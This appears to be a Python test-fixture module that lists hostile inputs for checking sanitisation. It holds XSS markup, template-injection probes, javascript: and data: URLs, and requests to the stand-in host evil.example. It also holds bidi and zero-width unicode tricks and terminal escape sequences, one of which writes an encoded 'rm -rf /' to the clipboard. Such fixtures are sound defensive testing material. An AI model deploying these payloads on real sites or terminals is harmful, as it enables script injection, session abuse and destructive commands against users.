"""Texts that want to be more than text on a page: markup, addresses that run, templates, controls, sizes.

Whatever of them runs sets `__pwned`, asks `evil.example` for something, or opens a dialog.
"""

from collections.abc import Iterator
from typing import Final

RUN: Final = "window.__pwned=1"
EVIL: Final = "//evil.example"
LONG: Final = 10_000

MARKUP: Final = {
    "script": f"<script>{RUN}</script>",
    "picture": f"<img src=x onerror={RUN}>",
    "svg": f'"><svg onload={RUN}>',
    "dialog": "'><img src=x onerror=alert(1)>",
    "frame": f"<iframe srcdoc='<script>parent.__pwned=1</script>' src='javascript:{RUN}'></iframe>",
    "end of title": f"</title></textarea></style></script><script>{RUN}</script>",
    "handler in quotes": f'" onmouseover="{RUN}" onfocus="{RUN}" autofocus x="',
    "handler in single quotes": f"' autofocus tabindex=1 onfocus='{RUN}' x='",
    "form": f"<form action={EVIL}><input autofocus onfocus={RUN}></form>",
    "base": f"<base href={EVIL}/><link rel=stylesheet href={EVIL}/a.css>",
    "refresh": f'<meta http-equiv=refresh content="0;url=http:{EVIL}/">',
    "style": f"<style>@import '{EVIL}/a.css'; body{{display:none}}</style>",
    "link": f'<a href="javascript:{RUN}" autofocus>click</a>',
    "htmx": f"<div hx-get='{EVIL}/x' hx-trigger=load hx-on:load='{RUN}' hx-on::before-request='{RUN}'>x</div>",
    "live": "<div id=live data-events=/users/sign_out data-part=live hx-sse:connect=/x>x</div>",
    "clobbering": "<form id=live><input name=dataset><input name=children><img name=getElementById></form>",
    "comment": f"<!--><script>{RUN}</script>-->",
    "section of characters": f"<![CDATA[<script>{RUN}</script>]]>",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "mathematics": f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    "object": f"<object data='data:text/html,<script>parent.{RUN}</script>'></object><embed src={EVIL}/x.swf>",
    "escaped once": f"&lt;script&gt;{RUN}&lt;/script&gt;&#x3C;img src=x onerror={RUN}&#x3E;",
    "escaped for scripts": rf"\u003cscript\u003e{RUN}\u003c/script\u003e';{RUN}//\";{RUN}//</script>",
    "escaped for addresses": f"%3Cscript%3E{RUN}%3C/script%3E%0d%0aSet-Cookie:%20a=b",
    "template": "{{ 7191 * 7193 }}${7191*7193}<%= 7191*7193 %>#{7191*7193}{% raw %}",
    "markdown": f"[x](javascript:{RUN}) ![x](http:{EVIL}/a.png) <http:{EVIL}/> <javascript:{RUN}>",
}
ADDRESSES: Final = {
    "script as address": f"javascript:{RUN}",
    "script with a tab": f"java\tscript:{RUN}",
    "data as address": f"data:text/html,<script>{RUN}</script>",
    "foreign": f"http:{EVIL}/a.png",
    "without a scheme": f"{EVIL}/a.png",
}
ODD: Final = {
    "turned": "\u202egnp.exe\u202c \u2066turned\u2069 \u061c\u200f",
    "unclosed turn": "\u202e\u2067never closed",
    "marks": "Z" + "\u0351\u0321\u0310" * 200,
    "nothing to see": "\u200b\u200c\u200d\u2060\ufeff",
    "joined": "\U0001f469\u200d\U0001f467" * 200,
    "very long word": "W" * LONG,
    "very long sentence": "word " * (LONG // 5),
    "very wide": "\ufdfd" * 200,
    "only quotes": "\"'`<>&" * 50,
}
TEXTS: Final = {**MARKUP, **ADDRESSES, **ODD}

_LINK: Final = "\x1b]8;;%s\x1b\\%s\x1b]8;;\x1b\\"
LOG: Final = {
    "linked script": _LINK % (f"javascript:{RUN}", "click"),
    "linked data": _LINK % (f"data:text/html,<script>{RUN}</script>", "click"),
    "link out of its quotes": _LINK % (f'http:{EVIL}/" onmouseover="{RUN}', "click"),
    "link with markup": _LINK % (f"http:{EVIL}/<script>{RUN}</script>", f"<script>{RUN}</script>"),
    "link with controls": _LINK % ("http://a\x07\x00\x0b" + EVIL, "click"),
    "link to a place of ours": _LINK % ("/users/sign_out", "click"),
    "link that is never closed": f"\x1b]8;;http:{EVIL}/never",
    "title": f"\x1b]0;</title><script>{RUN}</script>\x07",
    "clipboard": "\x1b]52;c;cm0gLXJmIC8=\x07",
    "picture": "\x1b]1337;File=inline=1:AAAA\x07\x1bPq#0;2;0;0;0#0~~\x1b\\",
    "section": f'section_start:1700000000:x"><script>{RUN}</script>[collapsed=true]\r\x1b[0K<img src=x onerror={RUN}>',
    "section at no time": "section_start:99999999999999999999:s1\r\x1b[0Kfar",
    "section before all time": "section_start:-1:s2\r\x1b[0Kearly",
    "section that ends before it starts": "section_end:1700000000:never\r\x1b[0K",
    "section of a name of ours": "section_start:1700000000:live\r\x1b[0Klive\nsection_end:1699999999:live\r\x1b[0K",
    "sections in sections": "".join(f"section_start:1700000000:n{n}\r\x1b[0Kn{n}\n" for n in range(200)),
    "colours of no kind": "\x1b[38;2;999;-1;x;48;5;300;31;;;;mcolour\x1b[0m",
    "a colour too long": "\x1b[" + "1;" * LONG + "31mcolour\x1b[0m",
    "colours in colours": "\x1b[1;4;31m\x1b[44m" * 2_000 + "deep\x1b[0m",
    "hidden": "\x1b[8mhidden\x1b[0m \x1b[30;40mblack\x1b[0m \x1b[2J\x1b[H\x1b[?1049h",
    "rewritten": "\rone\rtwo\r" * 2_000 + f"<script>{RUN}</script>",
    "back": "\b\b\b\x7f\x00\x01\x02\x1bc\x9b31m",
    "broken": "\x1b[",
    "a line of a megabyte": "L" * 1_000_000,
}


def filtered(most: int, *, lines: bool = False, without: str = "") -> Iterator[tuple[str, str]]:
    """Name and text of those that a door takes which allows so many bytes, and some characters not."""
    for name, text in TEXTS.items():
        short = text.encode()[:most].decode(errors="ignore")
        if not any(letter in short for letter in without) and (lines or "\n" not in short) and short.strip():
            yield name, short
